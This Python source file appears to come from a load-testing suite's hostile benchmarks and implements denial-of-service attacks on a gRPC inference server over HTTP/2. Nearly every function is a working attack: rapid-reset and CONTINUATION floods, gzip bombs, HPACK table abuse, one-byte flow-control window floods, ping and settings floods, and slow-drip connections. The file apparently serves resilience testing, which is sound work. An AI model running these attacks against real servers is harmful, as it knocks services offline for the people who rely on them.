"""Attacks on the gRPC port. Each function is one connection's life; when it returns, the next connection begins."""

from __future__ import annotations

import gzip
import itertools
import struct
from functools import cache, partial
from typing import TYPE_CHECKING

from hpack import Encoder

from loadtest.benchmarks.hostile.lines import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    UNKNOWN,
    call_block,
    frame,
    settings,
    window_update,
)
from loadtest.generator.grpc_messages import METHOD, request_bytes
from loadtest.generator.http2 import header_block, prefixed

if TYPE_CHECKING:
    from collections.abc import Callable

    from loadtest.benchmarks.hostile.lines import H2Line

MODEL = "minilm"
_LIVE = "/inference.GRPCInferenceService/ServerLive"
_STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"
_MESSAGE_LIMIT = 4 << 20
_STREAMS = 256
_CALM_STREAMS = 200
_CANCELLED_BYTES = 2_000_000
_BATCH = 128
_BATCH_S = 0.05
"""Between two calls of many texts: eight connections then ask for no more than the server can compute."""

_COMPUTED_S = 10.0
_BURST = 1000
_SLOW_SOCKETS = 24
_DRIP_S = 0.2


def _varint(value: int) -> bytes:
    encoded = bytearray()
    while value > 127:  # noqa: PLR2004  seven bits a byte
        encoded.append(value & 127 | 128)
        value >>= 7
    encoded.append(value)
    return bytes(encoded)


def _field(number: int, data: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(data)) + data


@cache
def _message(size: int, model: str = MODEL) -> bytes:
    """A ModelInferRequest with a parameter that makes it so large."""
    parameter = _field(1, b"padding") + _field(2, _field(3, b" " * (size - 200)))
    return prefixed(request_bytes(model, "cancelled") + _field(4, parameter))


@cache
def _batch() -> bytes:
    """A ModelInferRequest of 128 short texts: it is answered with 200 KB."""
    tensor = _field(1, b"text") + _field(2, b"BYTES") + _field(3, _varint(_BATCH) + _varint(1))
    texts = (struct.pack("<I", 1) + b"a") * _BATCH
    return prefixed(_field(1, MODEL.encode()) + _field(5, tensor) + _field(7, texts))


@cache
def _short() -> bytes:
    return prefixed(request_bytes(MODEL, "short"))


def _call(line: H2Line, message: bytes) -> tuple[int, bytes]:
    number, opening = line.headers()
    return number, opening + frame(DATA, END_STREAM, number, message)


# Memory.


def cancelled_calls(line: H2Line) -> None:
    """Calls of 2 MB, cancelled as soon as they are whole or a moment later."""
    line.begin()
    for pause in itertools.cycle((0.0, 0.001)):
        number, opening = line.headers()
        line.send(opening)
        line.message(number, _message(_CANCELLED_BYTES))
        line.pace.rest(pause)
        line.send(frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL)))


def refused_messages(line: H2Line) -> None:
    """Messages of 4 MB for a model that is not there, on a stream that outlives its refusals."""
    line.begin()
    number, opening = line.headers(path=_STREAM, more=[("triton_grpc_error", "true")])
    line.send(opening)
    while True:
        line.message(number, _message(_MESSAGE_LIMIT, "absent"), 0)


def refused_calls(line: H2Line) -> None:
    """Calls of 4 MB for a model that is not there."""
    line.begin()
    while True:
        number, opening = line.headers()
        line.send(opening)
        line.message(number, _message(_MESSAGE_LIMIT, "absent"))


def half_messages(line: H2Line) -> None:
    line.begin()
    number, opening = line.headers()
    line.send(opening)
    line.message(number, _message(_MESSAGE_LIMIT)[:-64], 0)
    line.hold()


@cache
def _bomb() -> bytes:
    packed = gzip.compress(_message(_MESSAGE_LIMIT, "absent")[5:], 9)
    return struct.pack(">BI", 1, len(packed)) + packed


def gzip_bombs(line: H2Line) -> None:
    """Compressed messages of 4 KB, at most 200 a second of all connections."""
    line.begin()
    while True:
        number, opening = line.headers(more=[("grpc-encoding", "gzip")])
        line.send(opening + frame(DATA, END_STREAM, number, _bomb()))
        line.pace.rest(0.04)


def closed_windows(line: H2Line) -> None:
    """As many calls as a connection has streams, each answered with 200 KB that have no window to go out.

    The next is made when the one before is computed: good calls that the machine cannot compute are another matter.
    """
    line.begin((INITIAL_WINDOW_SIZE, 0))
    for count in range(1, _STREAMS + 1):
        line.send(_call(line, _batch())[1])
        line.pace.rest(_BATCH_S)
        line.wait(partial(_has_replies, line, count), _COMPUTED_S)
    line.hold()


def _has_replies(line: H2Line, count: int) -> bool:
    return len(line.replied) >= count


def unread_replies(line: H2Line) -> None:
    """The same with open windows, and nothing is read from the socket."""
    line.begin((INITIAL_WINDOW_SIZE, (1 << 31) - 1))
    line.reads = False
    while True:
        line.send(_call(line, _batch())[1])
        line.pace.rest(_BATCH_S)


# The event loop.


def _blocked(line: H2Line) -> None:
    """Calls whose replies wait for the connection's window, which is used up by the first of them."""
    line.begin(window=0)
    line.send(b"".join(_call(line, _short())[1] for _ in range(_CALM_STREAMS)))
    line.pace.rest(0.1)


def window_updates(line: H2Line) -> None:
    """Opens the connection's window by one byte at a time."""
    _blocked(line)
    while True:
        line.send(window_update(0, 1) * _BURST)


def one_byte_grants(line: H2Line) -> None:
    """Opens the windows of streams by one byte at a time."""
    line.begin((INITIAL_WINDOW_SIZE, 0))
    calls = [_call(line, _short()) for _ in range(_CALM_STREAMS)]
    line.send(b"".join(opening for _, opening in calls))
    line.pace.rest(0.1)
    line.send(b"".join(window_update(number, 1) for number, _ in calls) * 1500)


def open_windows(line: H2Line) -> None:
    """Opens a window that is open, as often as it can be opened before it is too large."""
    line.begin()
    number, opening = line.headers()
    line.send(opening)
    while True:
        line.send(window_update(number, 1) * _BURST)


def _flood(payload: bytes) -> Callable[[H2Line], None]:
    def flood(line: H2Line) -> None:
        line.begin()
        line.send(line.headers()[1])
        burst = payload * _BURST
        while True:
            line.send(burst)

    return flood


priorities = _flood(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"))
acknowledgements = _flood(frame(SETTINGS, ACK, 0))
unknown_frames = _flood(frame(UNKNOWN, 0, 0))
pings = _flood(frame(PING, 0, 0, b"hostile!"))
empty_data = _flood(frame(DATA, 0, 1))
empty_settings = _flood(settings())
ping_answers = _flood(frame(PING, ACK, 0, b"hostile!"))


def many_settings(line: H2Line) -> None:
    """2,730 settings in each frame, which open and close the windows of streams that wait for them."""
    line.begin((INITIAL_WINDOW_SIZE, 0))
    line.send(b"".join(_call(line, _short())[1] for _ in range(_CALM_STREAMS)))
    line.pace.rest(0.1)
    values = settings(*[(INITIAL_WINDOW_SIZE, size % 2) for size in range(2730)])
    while True:
        line.send(values)


def one_byte_data(line: H2Line) -> None:
    """Messages in frames of one byte."""
    line.begin()
    while True:
        number, opening = line.headers()
        line.send(opening + frame(DATA, 0, number, struct.pack(">BI", 0, 60_000)))
        drop = frame(DATA, 0, number, b" ")
        for _ in range(59):
            line.send(drop * _BURST)
        line.send(drop * (_BURST - 1) + frame(DATA, END_STREAM, number, b" "))


def _refused_headers(line: H2Line, blocks: list[bytes], first: bytes = b"") -> None:
    """Calls whose headers are refused; `first` is a block that goes before."""
    line.begin()
    if first:
        line.send(frame(HEADERS, END_HEADERS | END_STREAM, line.stream(), first))
    for block in itertools.cycle(blocks):
        line.send(_header_frames(line.stream(), block))


def _header_frames(number: int, block: bytes) -> bytes:
    pieces = [block[at : at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
    kinds = [(HEADERS, END_STREAM), *[(CONTINUATION, 0)] * (len(pieces) - 1)]
    return b"".join(
        frame(kind, flags | (END_HEADERS if piece is pieces[-1] else 0), number, piece)
        for (kind, flags), piece in zip(kinds, pieces, strict=True)
    )


def references(line: H2Line) -> None:
    """1,400 references of one byte to a field of the dynamic table, in blocks that differ."""
    block = call_block(_LIVE)
    kept = b"\x40\x01x\x01y"
    blocks = [block + b"\xbe" * 1400 + header_block([("n", str(number))]) for number in range(1000)]
    _refused_headers(line, blocks, block + kept)


def static_references(line: H2Line) -> None:
    """The same to an entry of the static table."""
    block = call_block(_LIVE)
    _refused_headers(line, [block + b"\x90" * 1400 + header_block([("n", str(number))]) for number in range(1000)])


@cache
def _huffman() -> list[bytes]:
    fields = [(":method", "POST"), (":scheme", "http"), (":path", _LIVE), (":authority", "t"), ("te", "trailers")]
    fields += [("content-type", "application/grpc")]
    long = [(f"x-{number}", "abcdefgh" * 120) for number in range(15)]
    return [Encoder().encode([*fields, *long], huffman=True)]


def huffman(line: H2Line) -> None:
    """Header lists of 15 KB in Huffman's code."""
    _refused_headers(line, _huffman())


def huffman_in_calls(line: H2Line) -> None:
    """Calls as good clients make them, with other values of a KB in Huffman's code each time."""
    encoder = Encoder()
    fields = [(":method", "POST"), (":scheme", "http"), (":path", _LIVE), (":authority", "t"), ("te", "trailers")]
    fields += [("content-type", "application/grpc")]
    values = ([*fields, ("x", f"{number:04d}" * 250)] for number in range(64))
    _refused_headers(line, [encoder.encode([(*field, True) for field in each], huffman=True) for each in values])


def distinct_headers(line: H2Line) -> None:
    """Header lists of 100 fields and 15 KB, no two alike."""
    fields = [(f"x-header-{number}", "v" * 130) for number in range(94)]
    block = call_block(_LIVE, fields)
    line.begin()
    while True:
        number = line.stream()
        end = header_block([("n", str(number))])
        line.send(frame(HEADERS, END_HEADERS, number, block + end) + frame(DATA, END_STREAM, number, prefixed(b"")))
        due = (number >> 1) - _STREAMS // 2
        if line.ended < due:
            line.wait(partial(_has_ended, line, due))


def _has_ended(line: H2Line, count: int) -> bool:
    return line.ended >= count


def indexed_headers(line: H2Line) -> None:
    """Fields that fill the dynamic table and push one another out."""
    block = call_block(_LIVE)
    fields = [b"\x40\x05x-%03d\x04%04d" % (number % 1000, number) for number in range(4000)]
    _refused_headers(line, [block + b"".join(fields[at : at + 90]) for at in range(0, 3600, 90)])


def continuations(line: H2Line) -> None:
    """A header block that does not end."""
    line.begin()
    number = line.stream()
    line.send(frame(HEADERS, 0, number, call_block()))
    while True:
        line.send(frame(CONTINUATION, 0, number) * _BURST)


def rapid_resets(line: H2Line) -> None:
    line.begin()
    block = call_block()
    while True:
        opened = [line.stream() for _ in range(100)]
        line.send(
            b"".join(
                frame(HEADERS, END_HEADERS, number, block)
                + frame(DATA, END_STREAM, number, _short())
                + frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL))
                for number in opened
            )
        )


def slow_frames(line: H2Line) -> None:
    """A byte on each of 24 connections, five times a second."""
    others = line.open_others(_SLOW_SOCKETS)
    for other in others:
        other.send(PREFACE + settings() + frame(HEADERS, 0, 1, call_block()) + b"\0\x40\0\x09")
    while True:
        line.pace.rest(_DRIP_S)
        for other in others:
            other.send(b"\0")


def refused_streams(line: H2Line) -> None:
    """Calls to a method that is not there, headers alone."""
    line.begin()
    block = call_block(METHOD + "X")
    while True:
        line.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, line.stream(), block) for _ in range(200)))
